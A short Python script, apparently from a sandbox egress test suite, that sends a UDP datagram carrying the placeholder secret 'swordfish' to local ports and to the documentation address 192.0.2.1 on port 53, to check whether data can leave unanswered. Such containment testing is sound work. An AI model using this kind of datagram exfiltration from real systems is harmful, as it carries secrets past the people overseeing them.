"""Sends datagrams, which need no answer to carry a secret out, to a port of this machine and to the net."""

import socket

from attack import HOST, attempt


def send(family, address):
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"swordfish", address)


# What is sent into a network of one's own arrives nowhere: the host looks whether anything came.
attempt(
    lambda: send(socket.AF_INET, ("127.0.0.1", HOST["udp_port"])),
    lambda: send(socket.AF_INET, ("192.0.2.1", 53)),
    lambda: send(socket.AF_INET6, ("::1", HOST["udp_port"])),
)
